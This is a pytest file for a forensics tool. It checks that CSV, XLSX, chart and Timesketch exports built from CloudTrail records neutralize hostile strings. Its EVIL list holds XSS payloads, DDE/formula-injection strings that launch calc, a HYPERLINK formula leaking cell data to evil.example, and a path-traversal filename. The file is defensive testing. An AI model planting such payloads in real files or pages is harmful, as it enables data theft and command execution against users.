"""Exports are safe with attacker-controlled strings: CSV/XLSX neutralized, names sanitized, charts render."""

from __future__ import annotations

import csv
import json

import matplotlib.pyplot as plt
import openpyxl
import pandas as pd
import pytest

import iamforensics as ifx
from iamforensics.report.export import neutralize, safe_filename, save_figure, write_csv, write_xlsx
from iamforensics.report.style import caption, house_style, plain
from iamforensics.report.timesketch import write_timesketch

EVIL = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.domain)>',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "$x^2$ and $\\frac{a}{b}$",
    "A" * 1024,
]


def evil_records() -> list[dict]:
    out = []
    for i, s in enumerate(EVIL):
        out.append(
            {
                "eventVersion": "1.08",
                "eventTime": f"2024-05-06T10:{i:02d}:00Z",
                "eventID": f"11111111-2222-4333-8444-{i:012d}",
                "eventSource": "sts.amazonaws.com",
                "eventName": "AssumeRole",
                "awsRegion": "us-east-1",
                "sourceIPAddress": "198.51.100.9",
                "userAgent": s,
                "requestParameters": {"roleSessionName": s, "roleArn": "arn:aws:iam::012345678901:role/x"},
                "userIdentity": {
                    "type": "IAMUser",
                    "userName": s,
                    "arn": f"arn:aws:iam::012345678901:user/{s}",
                    "accountId": "012345678901",
                    "accessKeyId": "AKIAEVILEVILEVIL0001",
                },
            }
        )
    return out


@pytest.fixture(scope="module")
def evil_case(tmp_path_factory):
    d = tmp_path_factory.mktemp("evil")
    (d / "ev.json").write_text(json.dumps({"Records": evil_records()}))
    ifx.ingest([str(d / "ev.json")], d / "case", jobs=1)
    return ifx.open_case(d / "case")


@pytest.mark.parametrize("s", EVIL)
def test_neutralize(s):
    out = neutralize(s)
    if s[0] in "=+-@\t\r":
        assert out == "'" + s
    else:
        assert out == s


def test_csv_cells_neutralized(tmp_path, evil_case):
    df = evil_case.events(columns=["event_time", "user_agent", "user_name", "actor"])
    p = write_csv(df, tmp_path / "t.csv")
    with open(p, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) == len(EVIL) + 1
    assert not any(c and c[0] in "=+-@\t\r" for c in cells)
    assert "'=HYPERLINK" in "".join(cells)


def test_xlsx_cells_are_text_not_formulas(tmp_path, evil_case):
    df = evil_case.events(columns=["event_time", "user_agent", "user_name"])
    p = write_xlsx({"events": df, "=bad/name:*?": df.head(2)}, tmp_path / "t.xlsx")
    wb = openpyxl.load_workbook(p)
    assert len(wb.sheetnames) == 2 and all("/" not in n and "=" not in n for n in wb.sheetnames)
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert cell.value[0] not in "=+-@\t\r"


def test_safe_filename():
    assert safe_filename("../../etc/passwd") == "etc_passwd"
    assert safe_filename("a b/c\\d:e*f?g") == "a_b_c_d_e_f_g"
    assert safe_filename("....") == "unnamed"
    assert len(safe_filename("x" * 500)) == 80


@pytest.mark.parametrize("ext", ["png", "svg", "pdf"])
def test_save_figure_with_evil_labels(tmp_path, ext):
    with house_style():
        fig, ax = plt.subplots()
        ax.barh([plain(s, 60) for s in EVIL], range(len(EVIL)))
        ax.set_title(plain(EVIL[8]))
        caption(fig, "case $x$", "2024-05-06")
        p = save_figure(ax, tmp_path / f"f.{ext}")
    assert p.stat().st_size > 1000
    labels = [t.get_text() for t in ax.get_yticklabels()]
    assert all("\n" not in lab and len(lab) <= 60 for lab in labels)
    plt.close(fig)


def test_save_figure_rejects_unknown_extension(tmp_path):
    fig, ax = plt.subplots()
    with pytest.raises(ifx.IamForensicsError):
        save_figure(fig, tmp_path / "f.gif")
    plt.close(fig)


def test_timesketch_lines(tmp_path, evil_case):
    p = tmp_path / "ts.jsonl"
    n = write_timesketch(evil_case, p)
    lines = [json.loads(x) for x in p.read_text().splitlines()]
    assert n == len(lines) == len(EVIL)
    for line in lines:
        assert isinstance(line["message"], str) and line["message"]
        assert isinstance(line["timestamp_desc"], str) and line["timestamp_desc"]
        assert pd.Timestamp(line["datetime"]).tzinfo is not None
        assert isinstance(line["timestamp"], int)
        assert pd.Timestamp(line["datetime"]).value // 1000 == line["timestamp"]
    assert lines[0]["datetime"] == "2024-05-06T10:00:00+00:00"
